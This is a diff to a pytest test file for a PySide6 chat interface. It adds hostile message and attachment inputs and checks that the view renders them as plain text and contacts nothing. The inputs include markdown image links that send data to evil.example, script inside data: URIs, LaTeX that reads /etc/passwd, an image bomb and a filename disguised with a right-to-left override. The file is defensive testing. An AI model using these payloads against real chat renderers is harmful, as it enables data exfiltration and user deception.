@@ -2,13 +2,14 @@
 
 import socket
 import time
+from pathlib import Path
 
 import pytest
 from PySide6.QtCore import QUrl
 from PySide6.QtGui import QDesktopServices, QTextDocument
 from PySide6.QtWidgets import QApplication
 
-from app.ui.chat.message_rows import RowSource
+from app.ui.chat.message_rows import MessageRow, RowAttachment, RowSource
 from app.ui.shared.theme import Theme
 from tests.ui.message_kit import answer, controls, question, settle, shown, visible_text
 
@@ -33,6 +34,18 @@ HOSTILE = {
     "half markers": "[REF]" * 5_000 + "^1" * 5_000 + "[REF]99999999999[/REF]",
     "null and controls": "".join(chr(number) for number in range(32)) * 50 + "\ufffe\uffff\ufdd0",
     "lone surrogates": "broken \ud800 text \udfff here",
+    "dollars": "$" * 20_000 + " $a$ " * 200,
+    "formulas without end": "$$\n" + "\\frac{a}{" * 5_000 + "\n\n" + "\\[" * 5_000,
+    "formulas that grow": "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$ $" + "x^{" * 900 + "}" * 900 + "$",
+    "formulas that reach out": "$\\href{http://evil.example}{x}$ $\\includegraphics{/etc/passwd}$ $\\input{/a}$",
+    "carried pages": "![a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zy8+)"
+    " [c](data:text/html,<script>alert(1)</script>)",
+    "a carried picture of 2 MB": "![a](data:image/png;base64," + "A" * 2_000_000 + ")",
+    "a carried bomb": "![a](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAnEAAAJxACAYAAAA=)",
+    "carried pictures": "![a](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7) " * 400,
+    "stand-ins of pictures": "![a](data-picture:0) ![b](data-picture:99999) `data-picture:0` data:image/png;base64,",
+    "exfiltration": "![](https://evil.example/?q=secret) [![x](//evil.example/p)](http://evil.example) <https://evil.example>"
+    "\n\n[r]: https://evil.example/ref\n\n![pixel][r]",
 }  # fmt: skip
 
 
@@ -69,7 +82,11 @@ def test_a_hostile_message_is_drawn_and_reaches_nothing(theme: Theme, name: str)
 
 
 @pytest.mark.parametrize(
-    "name", ["one line of 2 MB", "10,000 rows", "a fence without end", "300 nested quotes", "stars"]
+    "name",
+    [
+        *("one line of 2 MB", "10,000 rows", "a fence without end", "300 nested quotes", "stars"),
+        *("dollars", "formulas without end", "a carried picture of 2 MB"),
+    ],
 )
 def test_a_hostile_message_streams_without_holding_the_window_up(theme: Theme, name: str) -> None:
     view = shown(theme, [answer(state="streaming", citations=True)])
@@ -98,3 +115,19 @@ def test_sources_and_names_are_text_too(theme: Theme) -> None:
     view = shown(theme, [answer("Fact.[REF]0[/REF]", citations=True, sources=(evil,))])
     view.grab()
     assert evil.host == ""
+
+
+def test_what_was_attached_is_text_too_and_its_bytes_are_not_believed(theme: Theme, tmp_path: Path) -> None:
+    fake = tmp_path / "picture"
+    fake.write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/x'/></svg>")
+    name = "<img src=http://evil.example/t.png>\u202egnp.exe"
+    attached = (
+        RowAttachment("image", name, "1 KB", str(fake), 640, 480),
+        RowAttachment("pdf", "x" * 500, "1 KB", ""),
+    )
+    view = shown(theme, [MessageRow("q", "user", "look", attachments=attached)])
+    for _ in range(3):
+        settle(view)
+        view.grab()
+    names = [control.name for _, control, _ in controls(view) if control.id.startswith("file")]
+    assert names == [f"Picture {name}, 1 KB"], "what is not on this computer cannot be pressed"
